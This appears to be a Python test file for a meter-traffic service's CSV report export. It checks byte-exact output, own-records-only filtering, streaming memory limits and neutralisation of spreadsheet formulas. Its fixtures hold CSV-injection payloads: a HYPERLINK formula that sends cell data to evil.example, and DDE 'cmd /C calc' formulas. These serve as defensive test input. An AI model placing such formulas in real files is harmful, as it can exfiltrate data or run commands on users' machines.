"""The own-traffic report as the engine formats it (store.export), on both engines.

The report must be byte for byte the CSV that the item-by-item path gives
(`iter_own_report` -> `domain.records.item` -> `write_csv` below): same header, same
values, same quoting, same times, and the same formula neutralisation (SPEC section 5: a
cell beginning with =, +, -, @, tab or carriage return gets a leading '); and it holds the
viewer's own records only (SPEC section 1 rule 7), whatever else the viewer may see under
MP141.
"""

from __future__ import annotations

import csv
import io
import time

import psycopg
import pytest
from sqlalchemy import text

from servicetrail.domain.model import Device, SatRecord
from servicetrail.domain.times import parse_time
from servicetrail.domain.visibility import Viewer
from servicetrail.domain.records import REPORT_FIELDS
from servicetrail.store.export import CHUNK_BYTES, csv_field, csv_header, own_report_csv
from servicetrail.store.queries import iter_own_report
from servicetrail.store.read_transaction import READ_LOCK_WAIT_MS
from servicetrail.store.registry import load_device
from servicetrail.store.writer import append_records

from tests import personas as P
from tests.personas import starts_with_personas
from tests.store.cancelled import cancel_once

EVER = (parse_time("2000-01-01"), parse_time("2100-01-01"))

# Values that CSV quoting and the engines' text handling can get wrong.
AWKWARD_PAYLOADS = {
    "comma": "a,b",
    "quote": 'say "hi"',
    "lf": "line 1\nline 2",
    "crlf": "line 1\r\nline 2\r\n",
    "unicode": "Zähler ✓ 😀",
    "spaces": "  padded  ",
    "backslash": "C:\\path\\to \\. \\N",
    "tab": "a\tb",
    "empty": "",
    "only_quote": '"',
    "xml": '<?xml version="1.0" encoding="UTF-8"?>\n<sr:Request schemaVersion="5.1">x</sr:Request>',
    # formulas a spreadsheet would run, one per starting character of the rule
    "formula_eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r\n=1+1",  # with a line feed: Python < 3.11.9 leaves a bare CR unquoted
    "formula_eq_quoted": '=1+1,"x"',
    # not formulas: left as they are
    "apostrophe": "'already",
    "equals_inside": "a=b",
    "space_then_eq": " =1",
}
FORMULA_STARTS = "=+-@\t\r"  # SPEC section 5 (OWASP's rule against CSV injection)
HOSTILE_DEVICE = "00-DB-12-34-56-78-90-EE"


def spreadsheet_safe(value) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text and text[0] in FORMULA_STARTS else text


def write_csv(items, out, fields=REPORT_FIELDS) -> int:
    """The reference: items as the API shows them, neutralised by the SPEC's rule and
    written by Python's csv module."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(fields)
    count = 0
    for entry in items:
        writer.writerow([spreadsheet_safe(entry.get(f)) for f in fields])
        count += 1
    return count


def _awkward_records() -> list[SatRecord]:
    """NORTHPOWER's own records with awkward payloads, times and SRVs, and one of LOOKER's."""
    records = []
    for n, (_, payload) in enumerate(sorted(AWKWARD_PAYLOADS.items()), start=1):
        rid = f"{P.NP_IS}:{P.ESME_1}:{100 + n}"
        when = parse_time(f"2025-04-{n:02d}T10:00:00Z")
        records.append(SatRecord(when, "request", rid, "4.1.1", P.NP_IS, P.ESME_1, "", payload))
    np_odd = f"{P.NP_IS}:{P.UNKNOWN_DEVICE}:200"
    records += [
        # microseconds kept, whole seconds without a fraction; an SRV the catalogue lacks;
        # a device the registry never heard of (no type, no SMETS generation)
        SatRecord(
            parse_time("2025-05-01T10:00:00.123456Z"),
            "request",
            np_odd,
            "99.9",
            P.NP_IS,
            P.UNKNOWN_DEVICE,
            "",
            "odd srv",
        ),
        SatRecord(
            parse_time("2025-05-01T10:00:00.000001Z"),
            "acknowledgement",
            np_odd,
            "99.9",
            P.NP_IS,
            P.UNKNOWN_DEVICE,
            "I99",
            "",
        ),
        SatRecord(
            parse_time("2025-05-01T10:00:01Z"),
            "response",
            np_odd,
            "99.9",
            P.NP_IS,
            P.UNKNOWN_DEVICE,
            "E4",
            "failed, \"badly\"",
        ),
        # formulas in the fields a DUIS message or the registry fills: SRV, response code,
        # device type
        SatRecord(
            parse_time("2025-05-03T10:00:00Z"),
            "response",
            f"{P.NP_IS}:{HOSTILE_DEVICE}:1",
            "=1+1",
            P.NP_IS,
            HOSTILE_DEVICE,
            "-2+3",
            "@SUM(1)",
        ),
        SatRecord(
            parse_time("2025-05-03T10:00:01Z"),
            "response",
            f"{P.NP_IS}:{HOSTILE_DEVICE}:2",
            "+4.1",
            P.NP_IS,
            HOSTILE_DEVICE,
            "@E4",
            "\t",
        ),
        # another User's traffic to NORTHPOWER's SMETS1 meter: MP141-visible to NORTHPOWER,
        # never in its report
        SatRecord(
            parse_time("2025-05-02T10:00:00Z"),
            "request",
            f"{P.LK_OU}:{P.ESME_S1}:300",
            "4.1.1",
            P.LK_OU,
            P.ESME_S1,
            "",
            "looker's secret, \"payload\"",
        ),
    ]
    return records


@pytest.fixture
@starts_with_personas
def world(engine):
    world = P.load_personas(engine)
    with engine.begin() as conn:
        load_device(conn, Device(HOSTILE_DEVICE, "=2+5+cmd|'/C'", 2))
        append_records(conn, _awkward_records())
    return world


def exported(engine, viewer: Viewer, start=EVER[0], end=EVER[1]) -> tuple[bytes, int, list[bytes]]:
    with engine.connect() as conn:
        report = own_report_csv(conn, viewer, start, end)
        chunks = list(report)
    return b"".join(chunks), report.rows, chunks


def item_by_item(engine, viewer: Viewer, start=EVER[0], end=EVER[1]) -> tuple[bytes, int]:
    out = io.StringIO()
    with engine.connect() as conn:
        count = write_csv(iter_own_report(conn, viewer, start, end), out)
    return out.getvalue().encode(), count


@pytest.mark.parametrize("party", P.PARTIES)
def test_export_is_byte_for_byte_the_item_csv(engine, world, party):
    viewer = world.viewer(party)
    got, rows, _ = exported(engine, viewer)
    want, count = item_by_item(engine, viewer)
    assert got == want
    assert rows == count


def test_awkward_values_survive_and_only_own_records_are_there(engine, world):
    viewer = world.viewer(P.NORTHPOWER)
    got, rows, _ = exported(engine, viewer)
    parsed = list(csv.reader(io.StringIO(got.decode(), newline="")))
    assert tuple(parsed[0]) == REPORT_FIELDS and rows == len(parsed) - 1
    items = [dict(zip(REPORT_FIELDS, row)) for row in parsed[1:]]
    assert {i["user_id"] for i in items} == {P.NP_IS} and {i["access"] for i in items} == {"own"}
    assert {spreadsheet_safe(v) for v in AWKWARD_PAYLOADS.values()} <= {i["payload"] for i in items}
    assert "looker's secret" not in got.decode()  # MP141-visible to NORTHPOWER, but not its own
    by_time = {i["logged_at"]: i for i in items}
    assert set(by_time) >= {
        "2025-05-01T10:00:00.123456Z",
        "2025-05-01T10:00:00.000001Z",
        "2025-05-01T10:00:01Z",
    }
    odd = by_time["2025-05-01T10:00:01Z"]
    assert odd["srv_title"] == "SRV 99.9 (not in the DUIS 5.x catalogue)"
    assert odd["device_type"] == "" and odd["smets"] == "" and odd["response_code"] == "E4"
    assert [i["logged_at"] for i in items] == sorted((i["logged_at"] for i in items), reverse=True)


def test_window_is_from_inclusive_to_exclusive(engine, world):
    viewer = world.viewer(P.NORTHPOWER)
    start, end = parse_time("2025-04-02T10:00:00Z"), parse_time("2025-04-05T10:00:00Z")
    got, rows, _ = exported(engine, viewer, start, end)
    assert (got, rows) == item_by_item(engine, viewer, start, end)
    assert rows == 3


def test_a_viewer_without_user_ids_gets_the_header_only(engine, world):
    got, rows, _ = exported(engine, Viewer("NOBODY", frozenset()))
    assert (got, rows) == (csv_header(), 0)
    assert got == item_by_item(engine, Viewer("NOBODY", frozenset()))[0]


def test_a_bare_carriage_return_is_quoted(engine, world):
    """Python's csv module before 3.11.9 left a lone CR unquoted (the row then split on
    reading); CPython gh-67044 quotes it, as PostgreSQL's COPY does: so does the report."""
    rid = f"{P.NP_IS}:{P.ESME_1}:400"
    with engine.begin() as conn:
        append_records(
            conn,
            [
                SatRecord(
                    parse_time("2025-06-01T00:00:00Z"),
                    "request",
                    rid,
                    "4.1.1",
                    P.NP_IS,
                    P.ESME_1,
                    "",
                    "old mac\rline",
                )
            ],
        )
    got, _, _ = exported(
        engine, world.viewer(P.NORTHPOWER), parse_time("2025-06-01"), parse_time("2025-06-02")
    )
    assert b',"old mac\rline",' in got
    header, row = list(csv.reader(io.StringIO(got.decode(), newline="")))
    assert row[header.index("payload")] == "old mac\rline"


def test_large_reports_stream_in_whole_row_chunks(engine, world):
    payload = "<x>" + "é" * 1000 + "</x>"
    batch = [
        SatRecord(
            parse_time("2025-07-01T00:00:00Z").replace(
                second=n % 60, minute=n // 60 % 60, hour=n // 3600
            ),
            "request",
            f"{P.NP_IS}:{P.ESME_1}:{1000 + n}",
            "4.1.1",
            P.NP_IS,
            P.ESME_1,
            "",
            payload,
        )
        for n in range(1500)
    ]
    with engine.begin() as conn:
        append_records(conn, batch)
    viewer = world.viewer(P.NORTHPOWER)
    got, rows, chunks = exported(engine, viewer)
    assert got == item_by_item(engine, viewer)[0]
    assert len(chunks) > 1 and all(c.endswith(b"\n") for c in chunks)
    assert (
        max(len(c) for c in chunks) < CHUNK_BYTES + 10_000
    )  # bounded: at most a row past the mark


@pytest.mark.parametrize(
    "value, field",
    [
        (None, ""),
        ("", ""),
        ("plain", "plain"),
        (7, "7"),
        ("a,b", '"a,b"'),
        ('a"b', '"a""b"'),
        ("a\nb", '"a\nb"'),
        ("a\rb", '"a\rb"'),
        (" a ", " a "),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", '"\'\rx"'),
        ('=a,"b"', '"\'=a,""b"""'),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        (-5, "'-5"),
    ],
)
def test_csv_field(value, field):
    assert csv_field(value) == field


def test_every_formula_start_is_neutralised_and_nothing_else(engine, world):
    """SPEC section 5: in CSV a cell beginning with =, +, -, @, tab or carriage return gets a
    leading '; the rest of the text, and every other cell, is as stored."""
    got, _, _ = exported(engine, world.viewer(P.NORTHPOWER))
    rows = [
        dict(zip(REPORT_FIELDS, row)) for row in csv.reader(io.StringIO(got.decode(), newline=""))
    ][1:]
    payloads = {r["payload"] for r in rows}
    for name, payload in AWKWARD_PAYLOADS.items():
        wanted = "'" + payload if name.startswith("formula") else payload
        assert wanted in payloads, name
    hostile = [r for r in rows if r["device_id"] == HOSTILE_DEVICE]
    assert {(r["srv"], r["response_code"], r["payload"]) for r in hostile} == {
        ("'=1+1", "'-2+3", "'@SUM(1)"),
        ("'+4.1", "'@E4", "'\t"),
    }
    assert {r["device_type"] for r in hostile} == {"'=2+5+cmd|'/C'"}
    unsafe = [(r["id"], k, v) for r in rows for k, v in r.items() if v and v[0] in FORMULA_STARTS]
    assert unsafe == []


def test_json_lines_keep_every_value_as_stored(engine, world):
    """The neutralisation is for spreadsheets only: the items (JSON Lines, the API) are exact."""
    with engine.connect() as conn:
        items = list(iter_own_report(conn, world.viewer(P.NORTHPOWER), *EVER))
    assert set(AWKWARD_PAYLOADS.values()) <= {i["payload"] for i in items}
    assert {
        (i["srv"], i["response_code"], i["device_type"])
        for i in items
        if i["device_id"] == HOSTILE_DEVICE
    } == {("=1+1", "-2+3", "=2+5+cmd|'/C'"), ("+4.1", "@E4", "=2+5+cmd|'/C'")}


def test_reports_of_long_payloads_hold_a_few_at_a_time(engine, world):
    """Exports fetched a fixed number of rows at a time (100 lines of the SQLite CSV report,
    2,000 items of the JSON Lines report and `records`): a run of firmware images held
    0.75-1.07 GB in the client (audit 30a). Eight firmware exchanges (a 4 MB request, then a
    small response, newest first the small one ahead of each: a fetch sized by the row before
    took them all again, review 30e) now pass a long payload at a time, on both report forms
    (Python's allocations, traced while each report is read), each payload whole."""
    import tracemalloc

    big = 4 << 20
    with engine.begin() as conn:
        append_records(
            conn,
            [
                SatRecord(
                    parse_time("2025-08-01T00:00:00Z").replace(minute=2 * n + small),
                    "response" if small else "request",
                    f"{P.NP_IS}:{P.ESME_1}:{3000 + n}",
                    "11.1",
                    P.NP_IS,
                    P.ESME_1,
                    "",
                    "<ok/>" if small else chr(ord("a") + n) * big,
                )
                for n in range(8)
                for small in (0, 1)
            ],
        )
    viewer = world.viewer(P.NORTHPOWER)
    window = (parse_time("2025-08-01T00:00:00Z"), parse_time("2025-08-02T00:00:00Z"))
    peaks = {}
    for form in ("csv", "items"):
        with engine.connect() as conn:
            tracemalloc.start()
            try:
                if form == "csv":
                    seen = sum(
                        chunk.count(b"11.1") for chunk in own_report_csv(conn, viewer, *window)
                    )
                else:
                    whole = [  # each payload's length and its one character, kept alone
                        (len(i["payload"]), set(i["payload"]))
                        for i in iter_own_report(conn, viewer, *window)
                    ]
                    seen = len(whole)
                    assert sorted(chars.pop() for size, chars in whole if size == big) == [
                        chr(ord("a") + n) for n in range(8)
                    ]
                peaks[form] = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
        assert seen == 16
    assert all(peak < 5 * big for peak in peaks.values()), peaks  # all eight: over 8 * 4 MB


@starts_with_personas
def test_a_report_cancelled_before_its_limit_is_not_taken_for_too_broad(pg_engine):
    """An administrator's cancel (pg_cancel_backend) is the SQLSTATE of the limit: the report
    said "narrow your search" for it, 422, where every other read leaves it to the store
    (503, session 33's finding). Here the report waits on a table locked by hand, and is
    cancelled long before both its lock wait and its time limit."""
    viewer = P.load_personas(pg_engine).viewer(P.NORTHPOWER)
    with pg_engine.connect() as locker, pg_engine.connect() as conn:
        pid = conn.execute(text("SELECT pg_backend_pid()")).scalar_one()
        conn.commit()
        locker.execute(text("LOCK TABLE sat_record IN ACCESS EXCLUSIVE MODE"))
        canceller = cancel_once(pg_engine, pid, "wait_event_type = 'Lock'")
        started = time.monotonic()
        try:
            with pytest.raises(psycopg.errors.QueryCanceled):
                list(own_report_csv(conn, viewer, *EVER))
        finally:
            canceller.join()
            locker.rollback()
    assert time.monotonic() - started < READ_LOCK_WAIT_MS / 1000


def test_a_streamed_report_streams_its_own_statement_alone(engine, world):
    """A report's statement is streamed (a server-side cursor on PostgreSQL) by its own
    option: set with Connection.execution_options(), which changes the connection in place,
    every later statement of the read was a server-side cursor too (each long payload's
    look-up, the plan settings), left open until the garbage collector came (57e's warnings
    run: 124 psycopg ServerCursors)."""
    from servicetrail.domain.search import Search
    from servicetrail.store.queries import iter_search

    with engine.connect() as conn:
        assert list(iter_search(conn, world.viewer(P.NORTHPOWER), Search()))
        assert "stream_results" not in conn.get_execution_options()
